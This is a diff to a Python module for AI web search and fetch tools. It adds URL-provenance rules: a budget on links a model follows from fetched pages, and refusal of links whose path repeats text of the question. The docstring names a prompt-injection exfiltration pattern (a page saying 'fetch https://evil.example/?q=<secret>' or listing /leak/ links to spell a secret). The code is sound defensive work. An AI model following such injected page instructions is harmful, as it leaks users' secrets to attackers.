@@ -10,6 +10,11 @@ URL provenance: a member may fetch only a URL that appeared in the question or i
 own earlier search results, or in a page it fetched (its address or its links). A page that says "fetch
 https://evil.example/?q=<secret>" therefore cannot make a model send data anywhere new.
 ``FUSION_FETCH_ANY_URL=true`` lifts the rule for trusted setups.
+
+Links a page offers are still the page's choice: a hostile page can list ``/leak/a``, ``/leak/b``... and
+steer the model to spell a secret one fetch at a time. So URLs first seen on a fetched page get two more
+rules: a member follows at most ``FUSION_FETCH_PAGE_LINKS`` of them, and none whose path or query carries
+:data:`ECHO_CHARS` or more consecutive characters of the question or its context.
 """
 
 from __future__ import annotations
@@ -17,9 +22,10 @@ from __future__ import annotations
 import json
 import logging
 import re
-from collections.abc import AsyncIterator, Iterable
+from collections.abc import AsyncIterator, Iterable, Mapping
 from contextlib import asynccontextmanager
-from typing import Any
+from typing import Any, Literal
+from urllib.parse import unquote, urlsplit
 
 import anyio
 import anyio.to_thread
@@ -82,6 +88,11 @@ SPECS: list[dict[str, Any]] = [
     },
 ]
 _URL = re.compile(r"""https?://[^\s<>"'`{}|\\^\[\]]+""", re.IGNORECASE)
+ECHO_CHARS = 8
+"""A page-discovered URL whose path or query repeats this many consecutive characters of the question is refused."""
+Origin = Literal["given", "search", "page"]
+"""Where a fetchable URL came from: the question/context (or the address a fetch ended at), a search result,
+or a page's links and text. Page-discovered URLs are the page's choice, and are budgeted."""
 MAX_PAGE_URLS = 1000
 """URLs one page can make fetchable (its links, then URLs in its text): bounds the work on a link farm."""
 SCAN_CHARS = 200_000
@@ -175,9 +186,10 @@ class RunWeb:
         self.chars_left = self.budget
         self._pages: dict[str, tuple[str, Page, frozenset[str]] | str] = {}
 
-    def toolbox(self, seed: str, known: Iterable[str] = ()) -> MemberWeb:
-        """Tools for one member; it may fetch URLs written in ``seed`` and the ``known`` ones."""
-        return MemberWeb(self, urls_in(seed) | set(known))
+    def toolbox(self, seed: str, known: Mapping[str, Origin] | None = None) -> MemberWeb:
+        """Tools for one member; it may fetch URLs written in ``seed`` (the question and its context) and
+        the ``known`` ones (with where each came from)."""
+        return MemberWeb(self, seed, dict(known or {}) | dict.fromkeys(urls_in(seed), "given"))
 
     async def page(self, url: str) -> tuple[str, Page, frozenset[str]] | str:
         """(final URL, page, URLs it links or names) for ``url``, fetched once per run; or why there is none."""
@@ -213,10 +225,18 @@ class RunWeb:
 class MemberWeb:
     """One member's ``ToolBox``: the two tools, its URL provenance and the sources it read."""
 
-    def __init__(self, run: RunWeb, known: set[str]) -> None:
+    def __init__(self, run: RunWeb, seed: str, known: dict[str, Origin]) -> None:
         self.run = run
+        self.seed = seed
         self.known = known
+        """Every URL this member may fetch, with where it came from."""
+        self.page_links_used = 0
         self.sources: list[Source] = []
+
+    def learn(self, urls: Iterable[str], origin: Origin) -> None:
+        """Make ``urls`` fetchable; a URL already known keeps its first (more trusted) origin."""
+        for url in urls:
+            self.known.setdefault(url, origin)
 
     def specs(self) -> list[dict[str, Any]]:
         return SPECS
@@ -264,7 +284,7 @@ class MemberWeb:
             lines.append(f"{i}. {hit.title}\n   {hit.url}\n   {hit.snippet}".rstrip())
             url = normalise_url(hit.url)
             if url is not None:
-                self.known.add(url)
+                self.learn([url], "search")
         body = "\n".join(lines)
         if len(body) > self.run.chars_left:
             return self._spent()
@@ -287,18 +307,24 @@ class MemberWeb:
         url = normalise_url(raw)
         if url is None:
             return f"refused: {raw[:200]!r} is not an http or https URL"
-        if url not in self.known and not self.run.tools.settings.fetch_any_url:
+        settings = self.run.tools.settings
+        if url not in self.known and not settings.fetch_any_url:
             return (
                 f"refused: {url[:200]} did not appear in the question, its context, or an earlier search or fetch "
                 "result; search for it first"
             )
+        if self.known.get(url) == "page" and not settings.fetch_any_url:
+            refusal = self._page_link_refusal(url)
+            if refusal is not None:
+                return refusal
+            self.page_links_used += 1
         found = await self.run.page(url)
         if isinstance(found, str):
             return found
         final, page, known = found
         if (normal := normalise_url(final)) is not None:
-            self.known.add(normal)
-        self.known |= known
+            self.learn([normal], self.known.get(url, "given"))
+        self.learn(known, "page")
         if not page.text:
             return f"{shown(final)} has no readable text (it may need JavaScript, or be empty)"
         if start >= len(page.text):
@@ -315,6 +341,24 @@ class MemberWeb:
         head = f"{shown(final)} ({part}{more})"
         title = f"Title: {page.title}\n\n" if page.title else ""
         return f"{head}\n{self.run.fence.wrap(title + page.text[start:end], source=FETCH, url=final)}"
+
+    def _page_link_refusal(self, url: str) -> str | None:
+        """Why a URL first seen on a page may not be followed, or None."""
+        budget = self.run.tools.settings.fetch_page_links
+        if self.page_links_used >= budget:
+            return (
+                f"refused: this answer has already followed {budget} links found on pages "
+                "(FUSION_FETCH_PAGE_LINKS); search for what you still need instead"
+            )
+        parts = urlsplit(url)
+        tail = unquote(f"{parts.path}?{parts.query}")
+        for start in range(len(tail) - ECHO_CHARS + 1):
+            if tail[start : start + ECHO_CHARS] in self.seed:
+                return (
+                    f"refused: {url[:200]} was offered by a page and repeats text of the question in its address "
+                    "(a page could use such links to carry the question away); search for it instead"
+                )
+        return None
 
     def _spent(self) -> str:
         return (
